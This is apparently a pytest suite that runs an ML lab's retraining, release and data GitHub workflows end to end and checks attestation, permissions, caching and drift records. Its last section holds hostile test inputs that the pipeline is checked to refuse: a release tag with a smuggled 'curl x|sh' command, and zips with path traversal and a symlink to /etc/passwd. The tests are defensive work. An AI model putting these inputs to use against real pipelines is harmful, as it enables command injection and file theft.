"""retrain.yml, release.yml and data.yml, executed: from a lab's first training to its third release.

One story, told in order; each part is a run of a whole workflow file. At its end stands what must not happen.
"""

from __future__ import annotations

import io
import json
import stat
import zipfile
from collections.abc import Iterator
from pathlib import Path

import pytest
from support.actions import Run
from support.github_api import GitHubServer
from support.lab import Lab, commit_all, make_lab, unzipped, variant, zipped

from stages.core.data.datasets.registry import REGISTRY
from stages.core.drift.record.record import DriftRecord, read_drift
from stages.core.release.jobs.history import rebuild
from stages.core.store.client import open_store
from stages.core.workspace.runs.yaml_edit import edit_yaml

pytestmark = [pytest.mark.slow, pytest.mark.long, pytest.mark.timeout(1200)]
ASSETS = {
    *("csa_measures.csv", "kept_masks.zip", "drift.json", "conversion.csv", "figures.zip", "report.html"),
    *("CHANGE_REPORT.md", "change_report.html", "provenance.json", "cordrift-record.zip", "csa_std.png"),
}
HOSTILE = 'v1.0";curl x|sh;"'


@pytest.fixture(scope="module")
def lab(tmp_path_factory: pytest.TempPathFactory, warm_server: dict[str, str]) -> Iterator[Lab]:
    with GitHubServer() as github:
        lab = make_lab(tmp_path_factory.mktemp("lab"), github, warm_server)
        # The floor has tests of its own, and takes seconds of each judgement.
        edit_yaml(lab.repository / "params/micro.yaml", lambda params: params["floor"].update(participants=0))
        commit_all(lab.repository, "no floor")
        yield lab


@pytest.fixture(scope="module")
def trained(lab: Lab) -> Run:
    return lab.retrain(variables={"DVC_REMOTE_URL": str(lab.folder / "remote")})


@pytest.fixture(scope="module")
def bundle(lab: Lab, trained: Run) -> bytes:
    return lab.github.assets("v1.0.0")["cordrift-bundle.zip"]


@pytest.fixture(scope="module")
def first(lab: Lab, trained: Run) -> Run:
    lab.github.publish("v1.0.0", "2026-01-10T10:00:00Z")
    lab.github.fail_next(1, 502)
    lab.github.fail_next(1, 429, headers={"retry-after": "1"}, path="/assets/")
    return lab.release("v1.0.0", variables={"CORDRIFT_ATTEST": ""})


@pytest.fixture(scope="module")
def kept(lab: Lab, first: Run) -> Run:
    """data.yml, after the first release fetched its data itself."""
    return lab.keep_data()


@pytest.fixture(scope="module")
def second(lab: Lab, bundle: bytes, kept: Run) -> Run:
    """Without MLflow; the job of shard 1 fails."""
    lab.github.add_release(
        "v1.1.0", published="2026-02-10T10:00:00Z", assets={"cordrift-bundle.zip": variant(bundle, 1.02)}
    )

    def fail(tree: Path) -> None:
        if tree.parent.name == "segment-1":
            (tree / "stages/segment.py").write_text("raise SystemExit('no room on the disk')\n", encoding="utf-8")

    return lab.release("v1.1.0", hook=fail)


def logs(run: Run) -> str:
    return f"{run.results}\n{run.log[-6000:]}"


# Retraining ---


def test_a_retraining_ends_in_a_draft_release_with_bundle_zip_summary_and_data(lab: Lab, trained: Run) -> None:
    assert trained.conclusion == "success", logs(trained)
    release = lab.github.stored("v1.0.0")
    assert not release.published
    assert set(lab.github.assets("v1.0.0")) == {
        *("cordrift-bundle.zip", "nnunet.zip", "TRAINING.md", "DATA_DIFF.md", "data_diff.csv", "dvc.lock"),
    }
    assert "| fold | epochs | last Dice |" in release.body
    assert release.body.startswith("Bundle `")
    assert "added" in lab.github.assets("v1.0.0")["DATA_DIFF.md"].decode()
    with zipfile.ZipFile(io.BytesIO(lab.github.assets("v1.0.0")["nnunet.zip"])) as archive:
        assert {"inference.json", "README.txt"} <= {name.rpartition("/")[2] for name in archive.namelist()}
    (attested,) = trained.attestations
    assert attested.name == "cordrift-bundle.zip"
    granted = {name for name, level in trained.job("draft").permissions.items() if level == "write"}
    assert granted == {"contents", "id-token", "attestations"}
    assert trained.job("train").runs_on == "gpu-box"
    assert not trained.leaks()


def test_nothing_new_is_no_new_draft_and_costs_no_training(lab: Lab, first: Run) -> None:
    again = lab.retrain(variables={"DVC_REMOTE_URL": str(lab.folder / "remote")})
    assert again.results == {"train": "success", "files": "success", "draft": "skipped"}, logs(again)
    assert "there is nothing new to release" in again.job("files").log
    assert "train fold 0" not in again.job("train").log, "what was trained came from DVC's remote"


def test_nothing_runs_before_a_lab_has_named_a_runner_and_a_profile(lab: Lab) -> None:
    run = lab.retrain(variables={"CORDRIFT_TRAIN_RUNNER": ""})
    assert set(run.results.values()) == {"skipped"}
    assert lab.keep_data(variables={"CORDRIFT_PROFILE": ""}).results == {"data": "skipped"}


# Releases ---


def drift_of(assets: dict[str, bytes], folder: Path) -> DriftRecord:
    """Read the record of the comparison among the assets of a release, which is written into ``folder`` for it."""
    (folder / "drift.json").write_bytes(assets["drift.json"])
    return read_drift(folder / "drift.json")


def test_the_first_release_passes_and_its_record_lies_beside_the_bundle(lab: Lab, first: Run, tmp_path: Path) -> None:
    assert first.conclusion == "success", logs(first)
    assets = lab.github.assets("v1.0.0")
    assert set(assets) >= ASSETS
    assert "verify who made the bundle (success)" in first.job("plan").log
    drift = drift_of(assets, tmp_path)
    assert (drift.verdict.drift, drift.priors, drift.incomplete) == ("first", [], [])
    assert "drift first" in first.summary
    assert "no earlier release" in first.summary
    assert not lab.github.violations, "no token went to the storage host"
    assert "releases/download/v1.0.0/csa_std.png" in first.summary
    assert not first.leaks()


def test_write_access_is_in_the_publishing_job_alone_and_it_touches_no_cache(first: Run) -> None:
    assert {job.id for job in first.jobs if job.permissions.get("contents") == "write"} == {"publish"}
    cached = {job.id for job in first.jobs for step in job.steps if "cache" in step.uses}
    assert cached == {"data", "segment", "judge"}


FETCHED = "Running stage 'fetch@micro-frozen'"


def test_the_data_come_once_and_then_from_the_cache(lab: Lab, first: Run) -> None:
    (cache,) = [one for one in lab.caches.saved if one.ref == "refs/tags/v1.0.0"]
    assert cache.job == "data"
    assert FETCHED in first.job("data").log
    for shard in (0, 1):
        assert FETCHED not in first.job("segment", shard=shard).log
    assert FETCHED not in first.job("judge").log


def test_what_data_yml_keeps_on_the_default_branch_is_fetched_by_no_later_release(
    lab: Lab, kept: Run, second: Run
) -> None:
    assert kept.conclusion == "success", logs(kept)
    assert FETCHED in kept.job("data").log
    again = lab.keep_data()
    assert again.conclusion == "success", logs(again)
    assert FETCHED not in again.log + second.log
    assert [cache.ref for cache in lab.caches.saved][:2] == ["refs/tags/v1.0.0", "refs/heads/main"]
    assert "refs/tags/v1.1.0" not in {cache.ref for cache in lab.caches.saved}


def test_without_mlflow_the_history_is_rebuilt_and_a_failed_shard_is_named(
    lab: Lab, second: Run, tmp_path: Path
) -> None:
    assert second.results == {
        **{"plan": "success", "data": "success", "segment": "failure", "judge": "success"},
        **{"publish": "success", "gate": "failure"},
    }, logs(second)
    assets = lab.github.assets("v1.1.0")
    drift = drift_of(assets, tmp_path)
    (prior,) = drift.priors
    assert (prior.label, prior.aliases) == ("v1.0.0", ["anchor", "champion"])
    assert drift.verdict.drift == "inconclusive"
    assert "micro-frozen/1" in drift.verdict.reasons[0]
    for text in (second.summary, assets["CHANGE_REPORT.md"].decode(), assets["report.html"].decode()):
        assert "micro-frozen/1" in text.replace("\\", "")
    assert "from cordrift-record.zip" in second.summary


def test_the_same_release_again_by_hand_changes_nothing_whatever_came_after_it(
    lab: Lab, first: Run, second: Run
) -> None:
    before = lab.github.assets("v1.0.0")
    again = lab.release_by_hand("v1.0.0")
    assert again.conclusion == "success", logs(again)
    assert again.concurrency == first.concurrency == "release-v1.0.0"
    assert second.concurrency != first.concurrency
    after = lab.github.assets("v1.0.0")
    assert {name for name in before if before[name] != after.get(name)} == set()
    assert set(after) == set(before)
    assert "replaced" not in again.summary


def test_a_third_release_is_judged_against_both_priors_in_mlflow(
    lab: Lab, bundle: bytes, second: Run, tmp_path: Path
) -> None:
    from stages.core.release.github.repository import open_repository

    place = lab.folder / "team"
    (place / "scratch").mkdir(parents=True)
    store = open_store("cord-micro", place)
    rebuild(store, open_repository(lab.github.environment()), "v9", "micro-frozen", place / "scratch", print)
    lab.github.add_release(
        "v1.2.0", published="2026-03-10T10:00:00Z", assets={"cordrift-bundle.zip": variant(bundle, 0.99)}
    )
    run = lab.release("v1.2.0", secrets={"MLFLOW_TRACKING_URI": f"sqlite:///{place / 'mlflow.db'}"})
    assert run.results["gate"] == "failure", "so few participants are never equivalent"
    assert run.results["publish"] == "success", logs(run)
    drift = drift_of(lab.github.assets("v1.2.0"), tmp_path)
    assert [prior.label for prior in drift.priors] == ["v1.0.0", "v1.1.0"]
    assert drift.against == drift.priors[0].digest, "the champion"
    versions = {version.tags["label"]: version for version in store.versions()}
    assert list(versions) == ["v1.0.0", "v1.1.0", "v1.2.0"]
    assert versions["v1.2.0"].aliases == ("candidate",)
    assert "from MLflow" in run.summary
    assert not run.leaks()


# What must not happen ---


def _plan_fails(lab: Lab, tag: str, sentence: str) -> None:
    run = lab.release(tag)
    assert run.results == {
        **{"plan": "failure", "data": "skipped", "segment": "skipped", "judge": "skipped"},
        **{"publish": "skipped", "gate": "skipped"},
    }
    assert sentence in run.job("plan").log, run.job("plan").log[-3000:]
    assert "Traceback" not in run.log
    assert not run.artifacts


def test_a_bundle_that_no_training_attested_is_not_judged(lab: Lab, bundle: bytes) -> None:
    """As one that somebody put in the place of the attested one; with CORDRIFT_ATTEST `no` it is judged."""
    assets = {"cordrift-bundle.zip": variant(bundle, 1.5)}
    lab.github.add_release("v3.9.0", published="2090-01-01T00:00:00Z", assets=assets)  # in no other release's history
    run = lab.release("v3.9.0", variables={"CORDRIFT_ATTEST": ""})
    assert run.results["plan"] == "failure"
    assert "no attestations found for subject" in run.job("plan").log
    assert not run.artifacts


def test_a_job_runs_the_code_of_its_checkout(lab: Lab) -> None:
    """Else these tests would tell nothing of the code beside them where VENV was made for another checkout."""

    def refuse(tree: Path) -> None:
        (tree / "stages/release.py").write_text("raise SystemExit('this is the checkout')\n", encoding="utf-8")

    lab.github.add_release("v4.0.0", assets={})
    run = lab.release("v4.0.0", hook=refuse)
    assert "this is the checkout" in run.job("plan").log, logs(run)


def test_a_hostile_tag_is_refused_and_never_a_command(lab: Lab) -> None:
    lab.github.add_release(HOSTILE, assets={})
    _plan_fails(lab, HOSTILE, "cannot be the label of a version")


def test_a_release_without_a_bundle_says_what_it_has(lab: Lab) -> None:
    lab.github.add_release("v5.0.0", assets={"notes.txt": b"none"})
    _plan_fails(lab, "v5.0.0", "has no asset cordrift-bundle.zip; there are notes.txt")


def _link() -> bytes:
    info = zipfile.ZipInfo("model.json")
    info.external_attr = (stat.S_IFLNK | 0o777) << 16
    path = Path("link.zip")
    with zipfile.ZipFile(path, "w") as archive:
        archive.writestr(info, "/etc/passwd")
    return path.read_bytes()


def test_hostile_archives_are_refused(lab: Lab, tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.chdir(tmp_path)
    for number, (packed, sentence) in enumerate(
        [
            (zipped({"../../model.json": b"{}"}), "leads out of the zip"),
            (_link(), "is a link"),
            (zipped({"model.json": b"{}", "weights.pth": b"x"}), "no pickle"),
            (b"no zip at all", "cannot be read as a zip"),
        ]
    ):
        lab.github.add_release(f"v6.{number}.0", assets={"cordrift-bundle.zip": packed})
        _plan_fails(lab, f"v6.{number}.0", sentence)


def test_the_frozen_49_are_planned_in_16_shards(lab: Lab, bundle: bytes) -> None:
    lab.github.add_release("v7.0.0", assets={"cordrift-bundle.zip": bundle})

    def nowhere(tree: Path) -> None:
        frozen = "spine-generic-frozen"
        edit_yaml(tree / REGISTRY, lambda registry: registry["datasets"][frozen].update(url="not/there"))

    run = lab.release("v7.0.0", hook=nowhere, variables={"CORDRIFT_PROFILE": "spine-generic"})
    outputs = run.job("plan").outputs
    assert json.loads(outputs["shards"]) == list(range(16))
    assert outputs["cache_key"].startswith("cordrift-frozen-spine-generic-")
    assert run.results["data"] == "failure"
    assert "not/there" in run.job("data").log


def test_what_is_unzipped_of_the_record_is_the_record(lab: Lab, first: Run) -> None:
    members = unzipped(lab.github.assets("v1.0.0")["cordrift-record.zip"])
    assert "record.json" in members
    assert not [name for name in members if name.endswith((".safetensors", ".pth"))]
    record = json.loads(members["record.json"])
    assert record["label"] == "v1.0.0"
    assert record["params"]["declared.before_results"] == "yes"
